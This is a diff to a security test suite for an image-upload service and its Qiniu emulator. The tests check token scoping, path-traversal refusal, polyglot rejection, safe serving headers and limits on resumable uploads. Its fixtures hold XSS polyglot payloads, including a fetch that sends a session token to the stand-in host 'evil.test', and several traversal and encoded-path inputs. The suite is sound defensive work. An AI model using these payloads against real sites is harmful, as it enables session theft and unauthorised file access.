@@ -1,20 +1,49 @@
 // @vitest-environment node
+// The Qiniu emulator and /files/uploads/ as an attacker meets them: tokens signed with a secret
+// of the data directory, keys confined to the uploader's folder, objects stored and served
+// only as the image their bytes decode as, resumable parts on disk with caps and expiry.
+import { existsSync, mkdirSync, readdirSync, statSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { crc32 } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { b64url, issueUploadToken, qetag } from './modules/upload.js';
-import { startTestServer, type TestServer } from './test-helpers.js';
+import { FILES_POLICY } from './files.js';
+import {
+  b64url,
+  MAX_OPEN_PER_USER,
+  qetag,
+  signPolicy,
+  UPLOAD_TTL_S,
+  type UploadKeys,
+} from './modules/upload.js';
+import { loadSecrets } from './secrets.js';
+import {
+  bearer,
+  jpegImage,
+  login,
+  pngImage,
+  startTestServer,
+  type TestServer,
+} from './test-helpers.js';
 
 let s: TestServer;
+let demo: string;
+let guest: string;
+let PNG: Buffer;
+let keys: UploadKeys;
+
 beforeAll(async () => {
   s = await startTestServer();
+  demo = await login(s, '13800138000', 'demo1234'); // user 1
+  guest = await login(s, '13900139000', 'guest1234'); // user 2
+  PNG = await pngImage(6, 6);
+  const secrets = loadSecrets(s.dataDir, {});
+  keys = { accessKey: secrets.qiniuAccessKey, secretKey: secrets.qiniuSecretKey };
 });
 afterAll(async () => {
   await s.close();
 });
 
-const PNG = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(100, 7)]);
-
-function multipart(fields: Record<string, string>, file?: Buffer) {
+function multipart(fields: Record<string, string>, file?: Buffer, name = 'a.png') {
   const boundary = '----sztx';
   const parts: Buffer[] = [];
   for (const [k, v] of Object.entries(fields)) {
@@ -25,7 +54,7 @@ function multipart(fields: Record<string, string>, file?: Buffer) {
   if (file) {
     parts.push(
       Buffer.from(
-        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n`,
+        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: image/png\r\n\r\n`,
       ),
     );
     parts.push(file, Buffer.from('\r\n'));
@@ -37,86 +66,319 @@ function multipart(fields: Record<string, string>, file?: Buffer) {
   };
 }
 
-const token = () => issueUploadToken(s.clock.now);
+async function tokenOf(session: string): Promise<string> {
+  const res = await s.call('GET', '/api/v2/qiniu/getUptoken', { headers: bearer(session) });
+  expect(res.body.code).toBe('200');
+  return res.body.data as string;
+}
 
-describe('qiniu emulator', () => {
-  it('form upload: stores the object, answers qetag hash and key; insert-only scope refuses a second write (614)', async () => {
-    const body = multipart(
-      { token: token(), key: 'avatar_t1.png', crc32: String(crc32(PNG) >>> 0) },
-      PNG,
-    );
-    const res = await s.app.inject({ method: 'POST', url: '/qiniu-up/', ...body });
-    expect(res.statusCode).toBe(200);
-    expect(res.json()).toEqual({ hash: qetag(PNG), key: 'avatar_t1.png' });
-    const file = await s.app.inject({ method: 'GET', url: '/files/uploads/avatar_t1.png' });
-    expect(file.rawPayload.equals(PNG)).toBe(true);
-    const again = await s.app.inject({ method: 'POST', url: '/qiniu-up/', ...body });
-    expect(again.statusCode).toBe(614);
+async function formUpload(token: string, key: string | null, file: Buffer) {
+  const fields: Record<string, string> = { token, crc32: String(crc32(file) >>> 0) };
+  if (key !== null) fields.key = key;
+  return s.app.inject({ method: 'POST', url: '/qiniu-up/', ...multipart(fields, file) });
+}
+
+const get = (url: string) => s.app.inject({ method: 'GET', url });
+
+/** Polyglots: an image signature followed by a page or a script. */
+const POLYGLOTS: Array<[string, Buffer]> = [
+  ['GIF89a + HTML', Buffer.from('GIF89a<html><script>alert(document.cookie)</script></html>')],
+  ['GIF89a + JS', Buffer.from('GIF89a=1;fetch("//evil.test/?"+sessionStorage.getItem("t"))//')],
+  [
+    'PNG signature + HTML',
+    Buffer.concat([
+      Buffer.from('89504e470d0a1a0a', 'hex'),
+      Buffer.from('<script>alert(1)</script>'),
+    ]),
+  ],
+  [
+    'SVG with script',
+    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+  ],
+  ['plain HTML', Buffer.from('<!doctype html><script>alert(1)</script>')],
+];
+
+describe('upload tokens', () => {
+  it('need a login and confine keys to the caller’s own folder (u/<user id>/)', async () => {
+    const none = await s.call('GET', '/api/v2/qiniu/getUptoken');
+    expect(none.body.code).toBe('401');
+    const token = await tokenOf(demo);
+    const policy = JSON.parse(Buffer.from(token.split(':')[2]!, 'base64').toString()) as {
+      scope: string;
+      isPrefixalScope: number;
+      endUser: string;
+    };
+    expect(policy).toMatchObject({ scope: 'sztx:u/1/', isPrefixalScope: 1, endUser: '1' });
   });
 
-  it('refuses a crc32 mismatch (406), a missing token (401) and keys that escape the folder (400)', async () => {
+  it('are signed with a secret of the data directory, never the one that was in the repository', async () => {
+    const old = signPolicy(
+      { scope: 'sztx', deadline: Math.floor(s.clock.now / 1000) + 600 },
+      { accessKey: 'sztx-dev-access-key', secretKey: 'sztx-dev-secret-key-not-for-production' },
+    );
+    const res = await formUpload(old, 'anything.png', PNG);
+    expect(res.statusCode).toBe(401);
+    // the data directory's secret is random, private to the owner and kept across restarts
+    const file = join(s.dataDir, 'secrets.json');
+    expect(statSync(file).mode & 0o777).toBe(0o600);
+    const other = await startTestServer();
+    try {
+      expect(loadSecrets(other.dataDir, {}).qiniuSecretKey).not.toBe(keys.secretKey);
+      expect(loadSecrets(s.dataDir, {}).qiniuSecretKey).toBe(keys.secretKey);
+    } finally {
+      await other.close();
+    }
+    expect(() => loadSecrets(s.dataDir, { QINIU_AK: 'ak', QINIU_SK: 'short' })).toThrow(/QINIU_SK/);
+    expect(() => loadSecrets(s.dataDir, { QINIU_SK: 'long-enough-secret-key' })).toThrow(
+      /QINIU_AK/,
+    );
+    expect(
+      loadSecrets(s.dataDir, { QINIU_AK: 'ak', QINIU_SK: 'long-enough-secret-key' }),
+    ).toMatchObject({
+      qiniuAccessKey: 'ak',
+      qiniuSecretKey: 'long-enough-secret-key',
+    });
+  });
+});
+
+describe('form upload', () => {
+  it('stores a real image in the caller’s folder and serves it as that image, sandboxed', async () => {
+    const res = await formUpload(await tokenOf(demo), 'u/1/avatar_t1.png', PNG);
+    expect(res.statusCode).toBe(200);
+    expect(res.json()).toEqual({ hash: qetag(PNG), key: 'u/1/avatar_t1.png' });
+    const file = await get('/files/uploads/u/1/avatar_t1.png');
+    expect(file.statusCode).toBe(200);
+    expect(file.headers['content-type']).toBe('image/png');
+    expect(file.headers['x-content-type-options']).toBe('nosniff');
+    expect(file.headers['content-security-policy']).toBe(FILES_POLICY);
+    expect(file.rawPayload.equals(PNG)).toBe(true);
+    // the owner may replace their own object
+    const other = await pngImage(6, 6, 2);
+    const again = await formUpload(await tokenOf(demo), 'u/1/avatar_t1.png', other);
+    expect(again.statusCode).toBe(200);
+    expect((await get('/files/uploads/u/1/avatar_t1.png')).rawPayload.equals(other)).toBe(true);
+  });
+
+  it('refuses keys outside the caller’s folder: another user’s object, the root, traversal', async () => {
+    const before = await formUpload(await tokenOf(guest), 'u/2/mine.png', PNG);
+    expect(before.statusCode).toBe(200);
+    const token = await tokenOf(demo);
+    for (const key of ['u/2/mine.png', 'mine.png', 'u/10/x.png', 'u/1x.png']) {
+      const res = await formUpload(token, key, await pngImage(6, 6, 3));
+      expect(res.statusCode, key).toBe(403);
+    }
+    for (const key of ['u/1/../2/mine.png', 'u/1/../../evil.png', '/u/1/abs.png', 'u/1//x.png']) {
+      const res = await formUpload(token, key, PNG);
+      expect([400, 403], key).toContain(res.statusCode);
+    }
+    expect((await get('/files/uploads/u/2/mine.png')).rawPayload.equals(PNG)).toBe(true);
+  });
+
+  it('refuses image polyglots, SVG and HTML under any key and extension', async () => {
+    const token = await tokenOf(demo);
+    for (const [name, bytes] of POLYGLOTS) {
+      for (const key of ['u/1/x.html', 'u/1/x.js', 'u/1/x.gif', 'u/1/x.png', 'u/1/x.svg']) {
+        const res = await formUpload(token, key, bytes);
+        expect(res.statusCode, `${name} as ${key}`).toBe(403);
+        expect((await get(`/files/uploads/${key}`)).statusCode).toBe(404);
+      }
+    }
+  });
+
+  it('stores an image under the extension of what its bytes are (a JPEG sent as .png is .jpg)', async () => {
+    const jpeg = await jpegImage(6, 6);
+    const res = await formUpload(await tokenOf(demo), 'u/1/photo.png', jpeg);
+    expect(res.statusCode).toBe(200);
+    expect(res.json()).toMatchObject({ key: 'u/1/photo.jpg' });
+    const file = await get('/files/uploads/u/1/photo.jpg');
+    expect(file.headers['content-type']).toBe('image/jpeg');
+    expect((await get('/files/uploads/u/1/photo.png')).statusCode).toBe(404);
+    // with no key, the object is named by its hash in the caller's folder
+    const unnamed = await formUpload(await tokenOf(demo), null, PNG);
+    expect(unnamed.json()).toEqual({ hash: qetag(PNG), key: `u/1/${qetag(PNG)}.png` });
+  });
+
+  it('a crc32 mismatch is 406, a missing token 401, an expired token 401', async () => {
+    const token = await tokenOf(demo);
     const bad = await s.app.inject({
       method: 'POST',
       url: '/qiniu-up/',
-      ...multipart({ token: token(), key: 'k2.png', crc32: '1' }, PNG),
+      ...multipart({ token, key: 'u/1/k2.png', crc32: '1' }, PNG),
     });
     expect(bad.statusCode).toBe(406);
     const none = await s.app.inject({
       method: 'POST',
       url: '/qiniu-up/',
-      ...multipart({ key: 'k3.png' }, PNG),
+      ...multipart({ key: 'u/1/k3.png' }, PNG),
     });
     expect(none.statusCode).toBe(401);
     expect(none.json()).toEqual({ error: 'token not specified' });
-    for (const key of ['../evil.png', 'a/../../evil.png', '/abs.png']) {
-      const res = await s.app.inject({
-        method: 'POST',
-        url: '/qiniu-up/',
-        ...multipart({ token: token(), key }, PNG),
-      });
-      expect(res.statusCode, key).toBe(400);
+    s.clock.now += 3601 * 1000;
+    const late = await formUpload(token, 'u/1/late.png', PNG);
+    expect(late.json()).toEqual({ error: 'token out of date' });
+  });
+});
+
+describe('/files/uploads/ serves nothing but images', () => {
+  it('an object that is not the image its name says is a download, never a page or a script', async () => {
+    // as written by an older version that trusted the key (files on disk, not through the API)
+    const dir = join(s.dataDir, 'files', 'uploads', 'legacy');
+    mkdirSync(dir, { recursive: true });
+    const html = Buffer.from('GIF89a<script>alert(document.cookie)</script>');
+    for (const name of ['evil.html', 'evil.js', 'evil.png', 'evil.svg', 'evil']) {
+      writeFileSync(join(dir, name), html);
+      const res = await get(`/files/uploads/legacy/${name}`);
+      expect(res.headers['content-type'], name).toBe('application/octet-stream');
+      expect(res.headers['content-disposition'], name).toBe('attachment');
+      expect(res.headers['content-security-policy'], name).toBe(FILES_POLICY);
+      expect(res.headers['x-content-type-options'], name).toBe('nosniff');
+    }
+    // its name and signature agree: an image type, which nosniff keeps from running as script
+    writeFileSync(join(dir, 'evil.gif'), html);
+    const gif = await get('/files/uploads/legacy/evil.gif');
+    expect(gif.headers['content-type']).toBe('image/gif');
+    expect(gif.headers['x-content-type-options']).toBe('nosniff');
+    expect(gif.headers['content-security-policy']).toBe(FILES_POLICY);
+  });
+
+  it('spelling the folder differently does not reach the files behind the check', async () => {
+    for (const url of [
+      '/files/%75ploads/legacy/evil.html',
+      '/files/./uploads/legacy/evil.html',
+      '/files//uploads/legacy/evil.html',
+      '/files/seed/../uploads/legacy/evil.html',
+      '/files/seed/%2e%2e/uploads/legacy/evil.html',
+    ]) {
+      const res = await get(url);
+      expect(String(res.headers['content-type'] ?? ''), url).not.toMatch(/html|javascript/);
+      if (res.statusCode === 200)
+        expect(res.headers['content-disposition'], url).toBe('attachment');
     }
   });
+});
 
-  it('the token deadline follows the server clock', async () => {
-    const old = token();
-    s.clock.now += 3601 * 1000;
-    const res = await s.app.inject({
+describe('resumable uploads', () => {
+  const initUrl = (key: string) => `/qiniu-up/buckets/sztx/objects/${b64url(key)}/uploads`;
+  const partsDir = () => join(s.dataDir, 'upload-parts');
+
+  it('keep parts on disk, not in memory, and assemble a checked image', async () => {
+    const token = await tokenOf(demo);
+    const auth = { authorization: `UpToken ${token}` };
+    const key = 'u/1/big.png';
+    const init = await s.app.inject({ method: 'POST', url: initUrl(key), headers: auth });
+    expect(init.statusCode).toBe(200);
+    const { uploadId, expireAt } = init.json() as { uploadId: string; expireAt: number };
+    expect(expireAt - Math.floor(s.clock.now / 1000)).toBe(UPLOAD_TTL_S);
+    expect(UPLOAD_TTL_S).toBeLessThanOrEqual(6 * 3600);
+    const half = Math.ceil(PNG.length / 2);
+    const etags: string[] = [];
+    for (const [n, chunk] of [PNG.subarray(0, half), PNG.subarray(half)].entries()) {
+      const put = await s.app.inject({
+        method: 'PUT',
+        url: `${initUrl(key)}/${uploadId}/${n + 1}`,
+        headers: { ...auth, 'content-type': 'application/octet-stream' },
+        payload: chunk,
+      });
+      expect(put.statusCode).toBe(200);
+      etags.push((put.json() as { etag: string }).etag);
+    }
+    expect(readdirSync(join(partsDir(), uploadId)).sort()).toEqual(['1', '2']);
+    const done = await s.app.inject({
       method: 'POST',
-      url: '/qiniu-up/',
-      ...multipart({ token: old, key: 'late.png' }, PNG),
+      url: `${initUrl(key)}/${uploadId}`,
+      headers: { ...auth, 'content-type': 'application/json' },
+      payload: JSON.stringify({ parts: etags.map((etag, i) => ({ etag, partNumber: i + 1 })) }),
     });
-    expect(res.json()).toEqual({ error: 'token out of date' });
+    expect(done.statusCode).toBe(200);
+    expect(existsSync(join(partsDir(), uploadId))).toBe(false);
+    expect((await get('/files/uploads/u/1/big.png')).rawPayload.equals(PNG)).toBe(true);
   });
 
-  it('resumable: unknown uploadId is 612; abort answers {}', async () => {
-    const ek = b64url('big.png');
-    const auth = { authorization: `UpToken ${token()}` };
+  it('cap the unfinished uploads of one user, and drop them with their parts after hours', async () => {
+    const token = await tokenOf(guest);
+    const auth = { authorization: `UpToken ${token}` };
+    const ids: string[] = [];
+    for (let i = 0; i < MAX_OPEN_PER_USER; i++) {
+      const init = await s.app.inject({
+        method: 'POST',
+        url: initUrl(`u/2/p${i}.png`),
+        headers: auth,
+      });
+      expect(init.statusCode).toBe(200);
+      const { uploadId } = init.json() as { uploadId: string };
+      ids.push(uploadId);
+      await s.app.inject({
+        method: 'PUT',
+        url: `${initUrl(`u/2/p${i}.png`)}/${uploadId}/1`,
+        headers: { ...auth, 'content-type': 'application/octet-stream' },
+        payload: Buffer.alloc(1024 * 1024, 1),
+      });
+    }
+    const over = await s.app.inject({
+      method: 'POST',
+      url: initUrl('u/2/more.png'),
+      headers: auth,
+    });
+    expect(over.statusCode).toBe(429);
+    // another user is not affected by this one's uploads
+    const demoAuth = { authorization: `UpToken ${await tokenOf(demo)}` };
+    const mine = await s.app.inject({
+      method: 'POST',
+      url: initUrl('u/1/ok.png'),
+      headers: demoAuth,
+    });
+    expect(mine.statusCode).toBe(200);
+    // another user cannot touch this one's upload, even knowing its id
+    const stolen = await s.app.inject({
+      method: 'DELETE',
+      url: `${initUrl('u/2/p0.png')}/${ids[0]}`,
+      headers: demoAuth,
+    });
+    expect(stolen.statusCode).toBe(403);
+
+    s.clock.now += UPLOAD_TTL_S * 1000 + 1000;
+    const fresh = { authorization: `UpToken ${await tokenOf(guest)}` };
+    const again = await s.app.inject({
+      method: 'POST',
+      url: initUrl('u/2/more.png'),
+      headers: fresh,
+    });
+    expect(again.statusCode).toBe(200); // the expired ones were dropped
+    for (const id of ids) expect(existsSync(join(partsDir(), id))).toBe(false);
+    const late = await s.app.inject({
+      method: 'PUT',
+      url: `${initUrl('u/2/p0.png')}/${ids[0]}/2`,
+      headers: { ...fresh, 'content-type': 'application/octet-stream' },
+      payload: PNG,
+    });
+    expect(late.statusCode).toBe(612);
+  });
+
+  it('unknown uploadId is 612; abort answers {} and removes the parts', async () => {
+    const auth = { authorization: `UpToken ${await tokenOf(demo)}` };
+    const key = 'u/1/gone.png';
     const unknown = await s.app.inject({
       method: 'PUT',
-      url: `/qiniu-up/buckets/sztx/objects/${ek}/uploads/nope/1`,
+      url: `${initUrl(key)}/nope/1`,
       headers: { ...auth, 'content-type': 'application/octet-stream' },
       payload: PNG,
     });
     expect(unknown.statusCode).toBe(612);
-    const init = await s.app.inject({
-      method: 'POST',
-      url: `/qiniu-up/buckets/sztx/objects/${ek}/uploads`,
-      headers: auth,
-    });
-    const { uploadId } = init.json() as { uploadId: string };
     const other = await s.app.inject({
       method: 'POST',
-      url: `/qiniu-up/buckets/other/objects/${ek}/uploads`,
+      url: `/qiniu-up/buckets/other/objects/${b64url(key)}/uploads`,
       headers: auth,
     });
     expect(other.statusCode).toBe(403);
+    const init = await s.app.inject({ method: 'POST', url: initUrl(key), headers: auth });
+    const { uploadId } = init.json() as { uploadId: string };
     const del = await s.app.inject({
       method: 'DELETE',
-      url: `/qiniu-up/buckets/sztx/objects/${ek}/uploads/${uploadId}`,
+      url: `${initUrl(key)}/${uploadId}`,
       headers: auth,
     });
     expect(del.statusCode).toBe(200);
     expect(del.json()).toEqual({});
+    expect(existsSync(join(partsDir(), uploadId))).toBe(false);
   });
 });
